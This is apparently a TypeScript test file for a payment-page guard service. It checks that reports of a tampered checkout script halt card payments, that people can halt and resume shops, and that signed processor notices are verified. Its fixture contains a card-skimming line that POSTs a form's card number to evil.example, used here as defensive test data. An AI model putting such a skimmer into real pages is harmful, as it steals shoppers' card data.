import { createHmac } from 'node:crypto';
import { type FileChange, LedgerEntry } from '@komainu/model';
import { afterEach, expect, test } from 'vitest';
import { z } from 'zod';
import { StateBody } from '../src/index.ts';
import { alteredScript, config, refOf, report, type Running, running, until } from './harness.ts';

let at: Running;
afterEach(() => at.end());

const BEFORE = 'mount();\n';
const AFTER =
  "mount();\nfetch('https://evil.example/c', { method: 'POST', body: document.forms[0].number.value });\n";

const shopNow = async () => {
  const [shop] = StateBody.parse(await (await at.ask('GET', '/api/state')).json()).shops;
  if (shop === undefined) throw new Error('no shop');
  return shop;
};
const gate = async () => (await shopNow()).gate.state;
const Entries = z.object({ entries: z.array(z.object({ index: z.number(), entry: LedgerEntry })) });
const entries = async () =>
  Entries.parse(await (await at.ask('GET', '/api/entries?limit=1000')).json()).entries;
const kinds = async () => (await entries()).map(({ entry }) => entry.kind);

async function altered(): Promise<FileChange> {
  for (const body of [BEFORE, AFTER])
    await at.ask('PUT', `/api/guard/blobs/${refOf(body)}`, new TextEncoder().encode(body));
  return alteredScript(refOf(BEFORE), refOf(AFTER));
}

test('a report of an altered script halts the shop, proved, with the whole story in the ledger', async () => {
  at = await running();
  const answer = await at.ask('POST', '/api/guard/reports', report([await altered()]));
  expect(await answer.json()).toEqual({ accepted: true });
  await until(async () => (await gate()) === 'halted', 'a halted gate');
  expect(at.shop.methods.get('card')).toBe(false);
  expect(await kinds()).toEqual([
    'server.started',
    'shop.registered',
    'files.reported',
    'judged',
    'incident.opened',
    'halt.ordered',
    'halt.switched-off',
    'halt.voided',
    'halt.proved',
  ]);
  const { incidents, roots } = await shopNow();
  expect(incidents).toMatchObject([{ state: 'contained', halt: { failures: 0, proof: refOf('a visit') } }]);
  expect(roots).toMatchObject([{ lastReport: { changes: 1, verdict: 'tampered' } }]);
});

test('the same report, again and at once, is recorded once; another under its id is refused', async () => {
  at = await running({ config: config({}, { halt: { onTampered: 'alert' } }) });
  const one = report([await altered()]);
  const answers = await Promise.all([1, 2, 3, 4].map(() => at.ask('POST', '/api/guard/reports', one)));
  expect(answers.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
  expect((await at.ask('POST', '/api/guard/reports', one)).status).toBe(200);
  const other = await at.ask('POST', '/api/guard/reports', {
    ...one,
    gaps: [{ path: null, detail: 'other' }],
  });
  expect(other.status).toBe(409);
  at = await at.again();
  expect((await at.ask('POST', '/api/guard/reports', one)).status).toBe(200);
  expect((await kinds()).filter((kind) => kind === 'files.reported')).toHaveLength(1);
  expect((await kinds()).filter((kind) => kind === 'judged')).toHaveLength(1);
  // The policy says alert: an incident, and cards stay on.
  expect(await kinds()).toContain('incident.opened');
  expect(await gate()).toBe('open');
  expect(at.shop.calls).not.toContain('switch-off');
});

test('a body the guard never sent is a gap in the verdict, not a clean one', async () => {
  at = await running({ config: config({}, { halt: { onTampered: 'alert' } }) });
  await at.ask('POST', '/api/guard/reports', report([alteredScript(refOf('never'), refOf('sent'))]));
  await until(async () => (await shopNow()).roots[0]?.lastReport?.verdict != null, 'a verdict');
  expect((await shopNow()).roots[0]?.lastReport?.verdict).not.toBe('clean');
});

test('a person halts; what a person asks for without a reason is refused by name', async () => {
  at = await running();
  const nameless = await at.ask('POST', '/api/shops/komorebi/halt', { person: ' ', reason: '念のため' });
  expect(nameless.status).toBe(400);
  expect(await nameless.json()).toMatchObject({
    error: { code: 'bad-request', message: { en: /^person: / } },
  });
  const both = await Promise.all(
    ['田中', '鈴木'].map((person) =>
      at.ask('POST', '/api/shops/komorebi/halt', { person, reason: '念のため' }),
    ),
  );
  const Answer = z.object({ incident: z.string() });
  const incidents = await Promise.all(both.map(async (answer) => Answer.parse(await answer.json()).incident));
  expect(both.map(({ status }) => status)).toEqual([202, 202]);
  expect(new Set(incidents).size).toBe(1);
  expect((await kinds()).filter((kind) => kind === 'halt.ordered')).toHaveLength(1);
  await until(async () => (await gate()) === 'halted', 'a halted gate');
});

test('a halt goes on through failures of the platform, and through a restart', async () => {
  at = await running();
  at.shop.failing = true;
  await at.ask('POST', '/api/shops/komorebi/halt', { person: '田中', reason: '念のため' });
  await until(async () => (await kinds()).includes('halt.failed'), 'a recorded failure');
  expect(await gate()).toBe('halting');
  at = await at.again();
  expect(await gate()).toBe('halting');
  at.shop.failing = false;
  await until(async () => (await gate()) === 'halted', 'a halted gate');
  expect(at.shop.methods.get('card')).toBe(false);
});

test('a platform that comes on again by itself is switched off again', async () => {
  at = await running({ tempo: { tick: 50, gate: 50 } });
  await at.ask('POST', '/api/shops/komorebi/halt', { person: '田中', reason: '念のため' });
  await until(async () => (await gate()) === 'halted', 'a halted gate');
  at.shop.methods.set('card', true);
  await until(
    async () => (await kinds()).filter((kind) => kind === 'halt.proved').length === 2,
    'a second proof',
  );
  expect(at.shop.methods.get('card')).toBe(false);
});

test('a resumption without a page to check is refused, with its reason', async () => {
  at = await running();
  await at.ask('POST', '/api/shops/komorebi/halt', { person: '田中', reason: '念のため' });
  await until(async () => (await gate()) === 'halted', 'a halted gate');
  const answer = await at.ask('POST', '/api/shops/komorebi/resume', { person: '田中', reason: '復旧' });
  expect(answer.status).toBe(409);
  expect(await answer.json()).toMatchObject({
    kind: 'refused',
    reason: { en: expect.any(String), ja: expect.any(String) },
  });
  expect(await kinds()).toContain('resume.refused');
  expect(at.shop.methods.get('card')).toBe(false);
});

const NOTICE = {
  id: 'case-77',
  suspectedFrom: '2026-01-31T00:00:00Z',
  suspectedTo: null,
  cards: 3,
  message: '疑い',
};
const sign = (body: string, secret = 'whsec_test', t = Math.floor(Date.now() / 1000)) =>
  `t=${t},v1=${createHmac('sha256', secret).update(`${t}.${body}`).digest('hex')}`;

test("the processor's notice halts; a forged, an old and a repeated one do not", async () => {
  at = await running();
  const body = JSON.stringify(NOTICE);
  const post = (signature: string, shop = 'komorebi') =>
    at.server.app.request(`http://127.0.0.1/api/shops/${shop}/notices`, {
      method: 'POST',
      headers: { host: '127.0.0.1', 'content-type': 'application/json', 'musubi-signature': signature },
      body,
    });
  expect((await post(sign(body, 'guessed'))).status).toBe(401);
  expect((await post(sign(body, 'whsec_test', 1_700_000_000))).status).toBe(401);
  expect((await post(sign(body), 'unknown')).status).toBe(404);
  expect(await kinds()).not.toContain('processor.notified');
  expect((await post(sign(body))).status).toBe(200);
  expect((await post(sign(body, 'whsec_test', Math.floor(Date.now() / 1000) - 60))).status).toBe(200);
  await until(async () => (await gate()) === 'halted', 'a halted gate');
  expect((await kinds()).filter((kind) => kind === 'processor.notified')).toHaveLength(1);
});
